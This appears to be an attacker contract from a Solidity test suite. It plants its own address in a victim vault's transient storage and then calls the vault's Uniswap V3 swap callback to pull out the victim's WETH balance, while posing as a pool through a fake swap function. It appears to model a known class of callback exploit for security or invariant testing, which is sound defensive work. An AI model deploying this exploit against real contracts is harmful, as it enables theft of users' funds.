// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {CountingToken} from "../../invariants/market/CountingToken.sol";
import {TransientVault} from "../controls/TransientVault.sol";

/// @notice Leaves its own address in the victim's transient storage if it can, then calls back as the pool.
contract SirTradingAttack {
    /// @param first what leaves the attacker's address in transient storage
    function attack(address entry, bytes calldata first, address victim, CountingToken weth) external {
        (bool ignored,) = entry.call(first);
        ignored;
        int256 amount = int256(weth.balanceOf(victim));
        try TransientVault(victim).uniswapV3SwapCallback(amount, 0, abi.encode(weth)) {} catch {}
        try TransientVault(victim).uniswapV3SwapCallback(amount, 0, "") {} catch {}
    }

    /// @dev As a pool that executions name; it brings what it is asked for.
    function swap(address to, bool, int256, uint160, bytes calldata data) external returns (int256, int256) {
        CountingToken bait = CountingToken(abi.decode(data, (address)));
        bait.transfer(to, 1 ether);
        return (0, 0);
    }
}
